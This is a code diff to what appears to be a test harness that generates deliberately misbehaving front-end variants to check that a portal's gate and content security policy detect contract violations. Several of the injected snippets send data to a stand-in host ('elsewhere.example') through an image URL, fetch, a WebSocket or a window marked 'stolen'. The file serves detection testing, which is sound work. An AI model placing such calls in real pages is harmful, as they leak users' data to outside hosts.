@@ -1,12 +1,20 @@
 import { randomBytes } from 'node:crypto'
 import { attacksOnThePage } from './attacks-on-the-page.ts'
-import { type CandidateAttack, type CandidateBatch, hiddenStorage } from './candidate-attack.ts'
-import { integrityOf, withFiles } from './candidate.ts'
+import type { Variant } from '../release/variant.ts'
+import { type CandidateAttack, type CandidateBatch, foundBy, hiddenStorage } from './candidate-attack.ts'
+import { integrityOf, manifestOf, withFiles, withManifest } from './candidate.ts'
 
 /** A host that is not the portal; no such host exists. */
 export const otherHost = 'elsewhere.example'
 
 const heavy = 'static/heavy.js'
+
+/** Adds a file of 400 kB, which the entry may load. */
+function withHeavyFile(variant: Variant): Variant {
+  const bytes = Buffer.from(`export default '${randomBytes(400_000).toString('base64')}'`)
+  const entry = String(variant.files.get(variant.manifest.entry))
+  return withFiles(variant, { [heavy]: bytes, [variant.manifest.entry]: `${entry}\n/* ${integrityOf(bytes)} */` })
+}
 
 const texts: CandidateBatch = {
   name: 'texts',
@@ -40,13 +48,44 @@ const texts: CandidateBatch = {
   },
 }
 
+const wrongClaims: CandidateBatch = {
+  name: 'claims that its code does not bear out',
+  attacks: [
+    {
+      id: 'declared-operation',
+      attack: 'Declares a call that its code does not make, to make it later',
+      check: 'operations',
+      finding: 'POST /api/note/save is declared, but never called.',
+    },
+    {
+      id: 'preload',
+      attack: 'Has every visitor load what only one page needs',
+      check: 'build',
+      finding: `${heavy} is loaded at once, but no container needs it.`,
+    },
+    {
+      id: 'unnamed-file',
+      attack: 'Stores files that no page uses',
+      check: 'files',
+      finding: 'static/films.bin is named by no code and by no style sheet.',
+    },
+  ],
+  change: (variant) => {
+    const { operations, preload } = manifestOf(variant)
+    const added = withHeavyFile(withFiles(variant, { 'static/films.bin': randomBytes(1000) }))
+    return withManifest(added, {
+      operations: [...operations, 'POST /api/note/save'],
+      preload: [...preload, heavy],
+    })
+  },
+}
+
 const network: CandidateBatch = {
   name: 'requests',
-  attacks: [
+  attacks: foundBy('network', [
     {
       id: 'call-on-click',
       attack: 'A call that is not in its contract, when a menu is opened',
-      check: 'network',
       finding: 'requests GET /api/livre/select, which is not in its contract (remoteEntry.js:…)',
       code: {
         mount: `const more=document.createElement('button');more.setAttribute('aria-expanded','false');more.textContent='+';more.onclick=()=>void fetch('/api/livre/select').then((answer)=>answer.text());props.container.append(more)`,
@@ -55,39 +94,47 @@ const network: CandidateBatch = {
     {
       id: 'call-after-leaving',
       attack: 'A call that is not in its contract, after the navigation to another page',
-      check: 'network',
       finding: 'requests GET /api/mot/select, which is not in its contract (remoteEntry.js:…)',
       code: { unmount: `void fetch('/api/mot/select').then((answer)=>answer.text())` },
     },
     {
       id: 'other-host-image',
       attack: 'An image of another host, with data in its URL',
-      check: 'network',
       finding: `requests https://${otherHost}/x.png?stolen from another host (remoteEntry.js:…)`,
       code: { mount: `new Image().src='https://${otherHost}/x.png?stolen'` },
     },
-  ],
+    {
+      id: 'call-in-an-hour',
+      attack: 'A call that is not in its contract, after twenty minutes',
+      finding: 'within an hour requests GET /api/grade/select, which is not in its contract (remoteEntry.js:…)',
+      code: { mount: `setTimeout(()=>void fetch('/api/grade/select').then((answer)=>answer.text()),1_200_000)` },
+    },
+    {
+      id: 'other-host-window',
+      attack: 'A window of another host, with data in its URL',
+      finding: 'opens a window',
+      code: { mount: `setTimeout(()=>open('https://${otherHost}/?stolen'),500)` },
+    },
+  ]),
 }
 
 /** The content security policy refuses these, for teachers as in the gate. */
 const refusedRequests: CandidateBatch = {
   name: 'requests that the browser refuses',
-  attacks: [
+  attacks: foundBy('browser', [
     {
       id: 'other-host',
       attack: 'A call to another host',
-      check: 'browser',
       finding: `the content policy refused https://${otherHost}/stolen (connect-src)`,
       code: { mount: `fetch('https://${otherHost}/stolen').catch(()=>{})` },
     },
     {
       id: 'other-host-socket',
       attack: 'A WebSocket to another host',
-      check: 'browser',
       finding: `the content policy refused wss://${otherHost}/ (connect-src)`,
       code: { mount: `try{new WebSocket('wss://${otherHost}/').close()}catch{}` },
     },
-  ],
+  ]),
 }
 
 const weight: CandidateBatch = {
@@ -101,11 +148,7 @@ const weight: CandidateBatch = {
       code: { mount: `void import(new URL('${heavy}',base).href)` },
     },
   ],
-  change: (variant) => {
-    const bytes = Buffer.from(`export default '${randomBytes(400_000).toString('base64')}'`)
-    const entry = String(variant.files.get(variant.manifest.entry))
-    return withFiles(variant, { [heavy]: bytes, [variant.manifest.entry]: `${entry}\n/* ${integrityOf(bytes)} */` })
-  },
+  change: withHeavyFile,
 }
 
 /** The gate repeats a visit in which the browser was blocked. */
@@ -138,6 +181,7 @@ function single(attack: CandidateAttack): CandidateBatch {
 export const candidateBatches: readonly CandidateBatch[] = [
   ...attacksOnThePage,
   texts,
+  wrongClaims,
   network,
   refusedRequests,
   weight,
